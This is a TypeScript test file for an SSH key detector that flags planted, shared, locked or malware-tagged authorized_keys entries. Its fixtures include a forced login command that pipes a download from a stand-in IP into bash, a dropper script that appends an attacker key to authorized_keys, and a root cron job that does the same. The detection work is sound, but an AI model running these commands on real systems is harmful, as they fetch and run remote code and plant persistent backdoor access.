import assert from 'node:assert/strict'
import { test } from 'node:test'
import { autostartOf, fileOf, statOf } from '../../test/facts.ts'
import { noIntel } from '../../test/intel.ts'
import type { Detector } from '../core/detector.ts'
import { type EntityId, entity } from '../core/entity.ts'
import type { SshKey } from '../core/facts/account.ts'
import { type Facts, factsOf } from '../core/facts.ts'
import type { Intel } from '../core/intel.ts'
import { rogueKey } from './rogue-key.ts'

const said = (detector: Detector, rows: Partial<Facts>, intel: Intel = noIntel, leads: EntityId[] = []) =>
  [...detector.detect(factsOf(rows), intel, new Set(leads))].map(f => `${f.severity} ${f.evidence[0].locator} ${f.title.en}`)
const keyOf = (given: Partial<SshKey> & { user: string }): SshKey => {
  const path = given.path ?? `/home/${given.user}/.ssh/authorized_keys`
  const fingerprint = given.fingerprint ?? 'SHA256:a'
  return {
    id: entity('key', `${path}#${fingerprint}`),
    line: 1,
    type: 'ssh-rsa',
    comment: 'me@laptop',
    options: '',
    ...given,
    path,
    fingerprint,
  }
}

test('keys: hits', () => {
  const outlaw = { id: 'outlaw', name: 'Outlaw', paths: [], names: [], markers: ['mdrfckr'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'a', comment: 'mdrfckr', fingerprint: 'SHA256:1' }),
    keyOf({ user: 'b', amidBinary: true, fingerprint: 'SHA256:2' }),
    keyOf({ user: 'news', path: '/var/spool/news/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'c', command: 'curl -s http://192.0.2.1/x | bash', fingerprint: 'SHA256:4' }),
    keyOf({ user: 'd', path: '/home/d/.ssh/authorized_keys2', fingerprint: 'SHA256:5' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [outlaw] }), [
    'critical /home/a/.ssh/authorized_keys:1 a key of Outlaw opens account a',
    'high /home/b/.ssh/authorized_keys:1 the key file of account b is a binary dump that was written there',
    'high /var/spool/news/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'high /root/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'medium /home/c/.ssh/authorized_keys:1 a key of account c runs an odd command at login',
    'low /home/d/.ssh/authorized_keys2:1 account d has keys in authorized_keys2',
  ])
})

test('keys: near misses: ordinary keys, one key for root and a person, forced commands, a longer word', () => {
  const family = { id: 'x', name: 'X', paths: [], names: [], markers: ['kal'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys' }),
    keyOf({ user: 'ann' }),
    keyOf({ user: 'postgres', fingerprint: 'SHA256:7', comment: 'kalinka@host' }),
    keyOf({ user: 'git', fingerprint: 'SHA256:8', command: '/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1' }),
    keyOf({
      user: 'root',
      fingerprint: 'SHA256:9',
      command: `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10`,
    }),
    keyOf({ user: 'bak', fingerprint: 'SHA256:10', command: 'rrsync -ro /var/tmp-data' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [family] }), [])
})

const tail = 'Qm0t7oVdJk0Vv6cN3pGWfPyBkHq0c5XkzL7S0jmX'
const root = '/root/.ssh/authorized_keys'

test('keys: hits: an accused script or job carries the very key', () => {
  const dropper = fileOf({ path: '/tmp/xms', head: `#!/bin/sh\necho "ssh-rsa AAAAB3Nza${tail} x" >> ~/.ssh/authorized_keys\n` })
  const job = autostartOf({ path: '/var/spool/cron/crontabs/root', text: `* * * * * echo ssh-rsa AAAAB3Nza${tail} x > ${root}` })
  const sshKeys = [keyOf({ user: 'root', path: root, tail }), keyOf({ user: 'ann', fingerprint: 'SHA256:b', tail: tail.toLowerCase() })]
  const planted = ['high /root/.ssh/authorized_keys:1 a suspect carries the key me@laptop that opens account root']
  assert.deepEqual(said(rogueKey, { sshKeys, files: [dropper] }, noIntel, [dropper.id]), planted)
  assert.deepEqual(said(rogueKey, { sshKeys, autostarts: [job] }, noIntel, [job.id]), planted)
})

test('keys: near misses: a script that nobody accuses, and key files that hold the key besides an accused one', () => {
  const provisioning = fileOf({ path: '/root/setup.sh', head: `ssh-rsa AAAAB3Nza${tail} me@laptop` })
  const keyFile = fileOf({ path: root, head: `ssh-rsa AAAAB3Nza${tail} me@laptop` })
  const entry = autostartOf({ kind: 'authorized-keys', path: root, text: `ssh-rsa AAAAB3Nza${tail} me@laptop` })
  const sshKeys = [keyOf({ user: 'root', path: root, tail })]
  assert.deepEqual(said(rogueKey, { sshKeys, files: [provisioning, keyFile], autostarts: [entry] }, noIntel, [keyFile.id, entry.id]), [])
})

test('keys: locked files: a hit in authorized_keys2, a hint for a sole key, near misses for owners who lock or link', () => {
  const own = keyOf({ user: 'root', path: root, fingerprint: 'SHA256:own' })
  const first = keyOf({ user: 'root', path: root, fingerprint: 'SHA256:bad', line: 2 })
  const twice = keyOf({ user: 'root', path: `${root}2`, fingerprint: 'SHA256:bad' })
  const flagged = (path: string, more: Parameters<typeof statOf>[0]) => fileOf({ path, stat: statOf({ immutable: true, ...more }) })
  const high = 'a key of account root also stands in an authorized_keys2 that chattr locks'
  assert.deepEqual(said(rogueKey, { sshKeys: [own, first, twice], files: [flagged(`${root}2`, {})] }), [
    `high ${root}:2 ${high}`,
    `high ${root}2:1 ${high}`,
  ])
  assert.deepEqual(said(rogueKey, { sshKeys: [own], files: [flagged(root, { appendOnly: true })] }), [
    `medium ${root}:1 the only key of account root stands in a file locked with chattr +ia`,
  ])
  assert.deepEqual(said(rogueKey, { sshKeys: [own, first], files: [flagged(root, { appendOnly: true })] }), [])
  assert.deepEqual(said(rogueKey, { sshKeys: [own], files: [flagged(root, {})] }), [])
  const linked = said(rogueKey, { sshKeys: [first, twice], files: [flagged(`${root}2`, { type: 'symlink' })] })
  assert.deepEqual(linked, [`low ${root}2:1 account root has keys in authorized_keys2`])
})

test("keys: PuTTY's default comment is a hit only where the family is, the end of a known key always", () => {
  const markers = ['rsa-key-20230629', tail.slice(-29)]
  const family = { id: 'red', name: 'Red', paths: [], names: [], markers, mines: true, references: [] }
  const intel: Intel = { ...noIntel, families: [family], familiesOfPath: path => (path === '/tmp/.red' ? [family] : []) }
  const sshKeys = [keyOf({ user: 'ann', comment: 'rsa-key-20230629' })]
  assert.deepEqual(said(rogueKey, { sshKeys }, intel), [])
  assert.equal(said(rogueKey, { sshKeys, files: [fileOf({ path: '/tmp/.red' })] }, intel).length, 1)
  assert.equal(said(rogueKey, { sshKeys: [keyOf({ user: 'ann', tail })] }, intel).length, 1)
})
